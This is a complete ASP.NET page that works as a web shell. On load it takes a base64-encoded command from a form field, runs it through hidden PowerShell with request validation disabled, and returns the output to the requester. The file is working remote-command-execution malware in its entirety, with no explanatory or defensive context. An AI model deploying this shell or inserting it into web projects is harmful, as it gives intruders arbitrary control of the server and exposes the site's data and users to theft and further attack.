<%@ Page Language="C#" ValidateRequest="false" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    string enc = Request.Form["e"];
    if (enc == null) return;
    var si = new ProcessStartInfo("powershell.exe", "-nop -w hidden -enc " + enc);
    si.UseShellExecute = false;
    si.RedirectStandardOutput = true;
    Response.Write(Process.Start(si).StandardOutput.ReadToEnd());
}
</script>
